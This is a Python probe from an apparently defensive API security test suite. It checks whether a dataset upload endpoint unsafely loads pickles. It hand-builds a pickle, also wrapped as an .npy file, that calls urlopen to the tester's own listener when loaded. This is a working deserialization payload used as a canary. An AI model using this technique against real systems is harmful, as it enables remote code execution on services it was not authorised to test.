"""INP-05: an inert pickle whose loading would call us."""

from __future__ import annotations

from pynomaly_itest.probing.callback import listening
from pynomaly_itest.probing.context import ProbeContext
from pynomaly_itest.probing.objects import blob, csv_of, dataset_of, upload
from pynomaly_itest.probing.probe import Hole, Impact, Observation, Probe, Severity, hole
from pynomaly_itest.registry import PROBES

_UPLOAD = "POST /api/v1/datasets/upload"
_ENDINGS = ("pkl", "joblib", "npy")


def _canary(url: str) -> bytes:
    """Protocol 0, written by hand: urllib.request.urlopen(url, None, 2). It asks our listener and does nothing else."""
    return f"curllib.request\nurlopen\n(V{url}\nNI2\ntR.".encode()


def _npy_of(pickled: bytes) -> bytes:
    """The same as an .npy file of objects, which numpy loads with allow_pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    padded = header + b" " * (118 - len(header) - 1) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(padded).to_bytes(2, "little") + padded + pickled


@PROBES.register("INP-05")
class Unpickling(Probe):
    id = "INP-05"
    title = "Pickles are not loaded"
    cwe = 502
    references = ("API8:2023", "ASVS 5.0.0 V1.5.2", "WSTG-INPV-11")
    severity = Severity.CRITICAL
    impact = Impact.CHANGES_OWN
    sends = ("POST datasets/upload",)
    needs = ("user_a",)
    expected = "4xx, and no call-back"
    why = "Loading a pickle runs whatever its author wrote into it."
    mend = "Take data formats only (csv, parquet, npy without objects), and store models as arrays."

    async def run(self, ctx: ProbeContext) -> Observation:
        actor = await ctx.actors.get("user_a")
        await dataset_of(ctx, actor, csv_of(blob(ctx.seed)))
        holes: list[Hole] = []
        async with listening(ctx) as listener:
            for ending in _ENDINGS:
                content = (
                    _npy_of(_canary(listener.url(ending)))
                    if ending == "npy"
                    else _canary(listener.url(ending))
                )
                reply = await upload(ctx, actor, content, f"model.{ending}")
                if not 400 <= reply.status < 500:
                    holes.append(hole(_UPLOAD, f"a pickle as .{ending}", reply))
            called = await listener.calls(ctx)
        holes += [
            Hole(_UPLOAD, f"a pickle as .{name} was loaded", f"the pickle in .{name} was run")
            for name in sorted(called)
        ]
        return Observation(f"{len(_ENDINGS)} pickles refused, none of them loaded", _UPLOAD, tuple(holes))
